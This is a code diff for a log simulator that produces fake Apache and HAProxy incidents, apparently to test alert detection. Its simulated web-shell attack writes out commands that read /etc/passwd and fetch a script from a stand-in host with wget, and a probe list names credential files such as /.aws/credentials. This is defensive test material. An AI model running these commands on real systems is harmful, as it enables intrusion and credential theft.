@@ -1,7 +1,7 @@
 """Incidents of the web server and load balancer."""
 
 from logwarden_ingestor.simulate.incidents.incident import attack, decoy, failure
-from logwarden_ingestor.simulate.quiet.web import AGENTS, SITE, access, child
+from logwarden_ingestor.simulate.quiet.web import PARENT, SITE, access, agent_of, child
 from logwarden_ingestor.simulate.scene import Scene
 from logwarden_ingestor.simulate.step import Script
 
@@ -12,7 +12,6 @@ _SCRIPTS = (
     "/xmlrpc.php /.env /.aws/credentials /.git/HEAD /setup.php /solr/admin/info /manager/html "
     "/actuator/env /owa/auth/logon.aspx /boaform/admin/formLogin /HNAP1 /config.json /backup.zip"
 ).split()
-_PARENT = "[pid 21034:tid 140213407438720]"
 
 
 @attack("apache2", risk=55, opening=25, ramp=22)
@@ -65,7 +64,8 @@ def web_login_guessing(scene: Scene) -> Script:
 @attack("apache2", risk=98, opening=75, ramp=5)
 def web_shell(scene: Scene) -> Script:
     """A script is uploaded to the web server and runs commands."""
-    client, agent = scene.cast.stranger(), scene.cast.pick(AGENTS)
+    client = scene.cast.stranger()
+    agent = agent_of(client)
     name = f"/uploads/avatar-{scene.cast.hexadecimal(6)}.php"
     yield scene.warns("apache2", access(client, "POST /account/avatar", "201 64", agent))
     for command in ("id", "uname%20-a", "cat%20/etc/passwd", "wget%20http://198.51.100.7/x.sh"):
@@ -89,7 +89,8 @@ def worker_failure(scene: Scene) -> Script:
         refused = f"({worker}) connecting to backend failed. Tomcat is probably not started"
         text = f"[jk:error] {child(cast)} ajp_send_request::jk_ajp_common.c (1723): {refused}"
         yield scene.fails("apache2", f"{text} or is listening on the wrong port (errno=111)", 3.0)
-        text = access(cast.customer(), "POST /api/v1/orders", "503 299", cast.pick(AGENTS))
+        client = cast.customer()
+        text = access(client, "POST /api/v1/orders", "503 299", agent_of(client))
         yield scene.fails("apache2", text, 0.1)
     state = f"worker {worker} state changed from OK to ERR; no usable worker in balancer shop"
     yield scene.fails("apache2", f"[jk:error] {child(cast)} service::jk_lb_worker.c: {state}", 1.0)
@@ -105,21 +106,22 @@ def backend_timeouts(scene: Scene) -> Script:
         text = f"[proxy_http:error] {child(cast)} (70007)The timeout specified has expired: {note}"
         yield scene.fails("apache2", f"{text} server {backend}", 4.0)
         request = f"GET /api/v1/products/{cast.between(1000, 9999)}"
-        yield scene.fails("apache2", access(client, request, "504 247", cast.pick(AGENTS)), 0.02)
+        yield scene.fails("apache2", access(client, request, "504 247", agent_of(client)), 0.02)
 
 
 @failure("apache2", risk=65, opening=55, ramp=4)
 def worker_limit(scene: Scene) -> Script:
     """The web server has no thread left for new requests."""
-    full = f"[mpm_event:error] {_PARENT} AH00484: server reached MaxRequestWorkers setting, "
-    busy = f"[mpm_event:warn] {_PARENT} AH10159: server is within MinSpareThreads of "
+    full = f"[mpm_event:error] {PARENT} AH00484: server reached MaxRequestWorkers setting, "
+    busy = f"[mpm_event:warn] {PARENT} AH10159: server is within MinSpareThreads of "
     for _ in range(3):
         yield scene.warns("apache2", f"{busy}MaxRequestWorkers, consider raising it", 10.0)
     for _ in range(scene.cast.between(4, 7)):
         text = f"{full}consider raising the MaxRequestWorkers setting"
         yield scene.fails("apache2", text, 12.0)
-        client, agent = scene.cast.customer(), scene.cast.pick(AGENTS)
-        yield scene.fails("apache2", access(client, "GET /catalog", "503 299", agent), 1.0)
+        client = scene.cast.customer()
+        text = access(client, "GET /catalog", "503 299", agent_of(client))
+        yield scene.fails("apache2", text, 1.0)
 
 
 @failure("apache2", risk=75, opening=55, ramp=5)
@@ -127,9 +129,9 @@ def child_crashes(scene: Scene) -> Script:
     """Processes of the web server crash again and again."""
     for _ in range(scene.cast.between(6, 12)):
         died = f"AH00052: child pid {scene.pid()} exit signal Segmentation fault (11)"
-        yield scene.fails("apache2", f"[core:notice] {_PARENT} {died}", 5.0)
+        yield scene.fails("apache2", f"[core:notice] {PARENT} {died}", 5.0)
         if scene.cast.chance(0.3):
-            text = f"[mpm_event:alert] {_PARENT} AH00490: no memory for new child"
+            text = f"[mpm_event:alert] {PARENT} AH00490: no memory for new child"
             yield scene.fails("apache2", text, 1.0)
 
 
@@ -137,11 +139,11 @@ def child_crashes(scene: Scene) -> Script:
 def certificate_expiry(scene: Scene) -> Script:
     """A certificate of the shop runs out."""
     cast, site = scene.cast, "shop.example.com:443:0"
-    for hours in (3, 2, 1):
-        text = f"AH02292: {site} server certificate expires in {hours} h, renewal has not run"
-        yield scene.warns("apache2", f"[ssl:warn] {_PARENT} {text}", 12.0)
+    for minutes in (3, 2, 1):
+        text = f"{site} server certificate expires in {minutes} min, renewal has not run"
+        yield scene.warns("apache2", f"[ssl:warn] {PARENT} {text}", 12.0)
     text = f"AH01909: {site} server certificate has expired"
-    yield scene.fails("apache2", f"[ssl:error] {_PARENT} {text}", 20.0)
+    yield scene.fails("apache2", f"[ssl:error] {PARENT} {text}", 20.0)
     for _ in range(cast.between(6, 12)):
         alert = "error:0A000415:SSL routines::sslv3 alert certificate expired (SSL alert number 45)"
         note = f"[client {cast.customer()}:{cast.port()}] SSL Library Error: {alert}"
@@ -164,12 +166,16 @@ def backend_down(scene: Scene) -> Script:
     )
     text = f"Server web/web-1 is DOWN, {checked}. {down.format(cast.between(20, 90))}"
     yield scene.fails("haproxy", text, 10.0)
-    yield scene.fails("haproxy", "backend web has no server available!", 0.01)
+    text = "backend web has no server available!"
+    yield scene.fails("haproxy", text, 0.01, effect=scene.mute("haproxy"))
     for _ in range(cast.between(10, 20)):
         client = f"{cast.customer()}:{cast.port()}"
         request = '"GET /{} HTTP/1.1"'.format(cast.pick(("catalog", "cart", "")))
         text = f"{client} [] shop~ web/<NOSRV> 0/-1/-1/-1/0 503 217 - - SC-- 99/97/0/0/0 0/0 "
         yield scene.fails("haproxy", text + request, 0.8)
+    back = "reason: Layer7 check passed, code: 200, check duration: 3ms. 1 active servers online."
+    text = f"Server web/web-1 is UP, {back}"
+    yield scene.says("haproxy", text, 4.0, effect=scene.unmute("haproxy"))
 
 
 @decoy("apache2", risk=15)
@@ -187,10 +193,11 @@ def load_test(scene: Scene) -> Script:
 def deploy_with_brief_errors(scene: Scene) -> Script:
     """A deployment with a few failed requests while the server reloads."""
     cast = scene.cast
-    notice = f"[mpm_event:notice] {_PARENT} "
+    notice = f"[mpm_event:notice] {PARENT} "
     yield scene.says("apache2", f"{notice}AH00493: SIGUSR1 received.  Doing graceful restart")
     for _ in range(cast.between(2, 4)):
-        text = access(cast.customer(), "GET /api/v1/session", "502 341", cast.pick(AGENTS))
+        client = cast.customer()
+        text = access(client, "GET /api/v1/session", "502 341", agent_of(client))
         yield scene.warns("apache2", text, 0.4)
     ready = "AH00489: Apache/2.4.65 (Debian) OpenSSL/3.5.1 configured -- resuming normal operations"
     yield scene.says("apache2", notice + ready, 1.0)
